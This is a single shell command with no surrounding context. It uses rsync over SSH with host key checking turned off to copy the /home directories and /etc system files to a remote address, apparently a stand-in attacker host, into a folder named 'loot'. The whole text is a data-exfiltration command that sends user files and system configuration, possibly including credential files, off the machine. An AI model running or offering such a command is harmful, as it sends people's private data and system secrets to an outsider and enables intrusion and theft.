rsync -az -e "ssh -o StrictHostKeyChecking=no" /home/ /etc x@198.51.100.9:loot/
